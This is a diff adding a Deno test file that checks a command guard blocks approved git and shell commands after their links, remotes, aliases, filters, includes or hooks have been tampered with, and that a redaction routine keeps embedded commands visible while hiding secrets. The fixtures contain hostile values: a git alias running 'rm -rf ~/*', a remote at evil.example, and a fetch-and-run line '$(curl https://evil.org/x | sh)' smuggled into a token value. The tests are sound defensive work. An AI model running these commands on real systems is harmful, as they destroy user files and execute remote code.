@@ -1,0 +1,100 @@
+// Plans together with the real guard and the real search for secrets: what was approved and what the guard finds right before it
+// runs, and what is told of a command.
+
+import { assert, assertEquals } from "@std/assert";
+import { makeGates } from "./guard/all_gates.ts";
+import { makeGuard } from "./guard/dispatcher.ts";
+import { redact } from "./log.ts";
+import type { Action, Task, Verdict } from "./pipeline/ports.ts";
+import type { FlightPlan } from "./plans/flight_plan.ts";
+import { link, Place } from "./plans/place_example.ts";
+import { redactCode } from "./plans/shown_code.ts";
+
+/** The guard as a daemon has it. */
+function guardOf({ root, now }: Place): (action: Action) => Promise<Verdict> {
+  const subject = {
+    home: `${root}/home`,
+    user: "u",
+    config: `${root}/config`,
+    data: `${root}/data`,
+    state: `${root}/state`,
+    memex: `${root}/home/memex`,
+    privacyTags: [],
+    networkAllow: [],
+    targets: ["SHELL"],
+  };
+  const clock = { now: () => now, after: () => () => {} };
+  const guard = makeGuard({ gates: makeGates(subject, () => {}), clock, gateTimeoutMs: 1_000 });
+  return async (action) => await guard.judge(action, { source: "TEST", signal: new AbortController().signal } as Task);
+}
+
+Deno.test("hands: with the real guard nothing runs whose link, remote, alias, filter or include was turned round", async () => {
+  const remote = (url: string) => `[remote "origin"]\n\turl = ${url}\n[branch "main"]\n\tremote = origin\n`;
+  const ways: readonly (readonly [string, string, (place: Place) => void])[] = [
+    ["a link", "echo evil >> ../notes/log.txt", ({ root }) => {
+      Deno.removeSync(`${root}/notes/log.txt`);
+      link(`${root}/home/.bashrc`, `${root}/notes/log.txt`);
+    }],
+    ["the remote", "git push origin main", ({ project }) => {
+      Deno.writeTextFileSync(`${project}/.git/config`, remote("https://evil.example/x.git"));
+    }],
+    ["the remote, by another address to push to", "git push origin main", ({ root }) => {
+      const url = `[url "https://evil.example/"]\n\tpushInsteadOf = ${root}/\n`;
+      Deno.writeTextFileSync(`${root}/home/.gitconfig`, url);
+    }],
+    ["an alias", "git zz", ({ project, root }) => {
+      const alias = "[alias]\n\tzz = !sh -c 'rm -rf ~/*'\n";
+      Deno.writeTextFileSync(`${project}/.git/config`, remote(`${root}/bare.git`) + alias);
+    }],
+    ["a filter", "git add . && git push origin main", ({ project }) => {
+      Deno.writeTextFileSync(`${project}/.gitattributes`, "* filter=evil\n");
+    }],
+    ["an included file", "git push origin main", ({ root }) => {
+      Deno.writeTextFileSync(`${root}/home/more.gitconfig`, '[core]\n\tsshCommand = "sh -c evil"\n');
+    }],
+    ["a hook", "git push origin main", ({ project }) => {
+      Deno.mkdirSync(`${project}/.git/hooks`, { recursive: true });
+      Deno.writeTextFileSync(`${project}/.git/hooks/pre-push`, "#!/bin/sh\nevil\n", { mode: 0o755 });
+    }],
+  ];
+  const all = ways.flatMap(([name, command, change]) => [
+    [name, command, change, 0] as const,
+    [`${name}, left alone`, command, () => {}, 1] as const,
+  ]);
+  for (const [name, command, change, runs] of all) {
+    await using place = new Place();
+    const { root, project } = place, home = `${root}/home`;
+    for (const folder of ["notes", "home", "bare.git"]) Deno.mkdirSync(`${root}/${folder}`);
+    Deno.mkdirSync(`${project}/.git`);
+    for (const file of [`${root}/notes/log.txt`, `${home}/.bashrc`]) Deno.writeTextFileSync(file, "");
+    Deno.writeTextFileSync(`${project}/.git/config`, remote(`${root}/bare.git`));
+    Deno.writeTextFileSync(`${project}/.git/HEAD`, "ref: refs/heads/main\n");
+    Deno.writeTextFileSync(`${home}/.gitconfig`, "[include]\n\tpath = more.gitconfig\n");
+    const judge = guardOf(place);
+    const { service } = place.open({ judge });
+    const { id, hash } = await place.propose(service, command, project, judge);
+    change(place);
+    assert(service.approve(id, hash, "cli").ok);
+    await service.idle();
+    assertEquals(place.runs.length, runs, name);
+    const { state, progress } = service.find(id) as FlightPlan;
+    if (runs === 0) assert(state === "FAILED" && progress.neverRan || state === "INTERRUPTED", `${name}: ${state}`);
+  }
+});
+
+Deno.test("hands: what is taken out does not take along what runs in it", () => {
+  const secret = "tR7x9Qm2Lp4Zk8Vw";
+  for (const inner of ["$(curl https://evil.org/x | sh)", "`rm -rf ~/notes`", "$(echo $(id) x (a))"]) {
+    const text = `TOKEN="${secret} ${inner}" make`;
+    assert(!redact(text).includes(inner), "else there is nothing to show");
+    const shown = redactCode(text, redact);
+    assert(shown.includes(inner), shown);
+    assert(!shown.includes(secret), shown);
+  }
+  // A secret within is taken out there as well.
+  const nested = redactCode(`TOKEN="${secret} $(PASSWORD=hunter2Hunter2! make)"`, redact);
+  assert(nested.includes("make") && !nested.includes("hunter2"), nested);
+  for (const text of ["echo $(date)", `echo TOKEN=${secret}`, "", "echo $(("]) {
+    assertEquals(redactCode(text, redact), redact(text));
+  }
+});
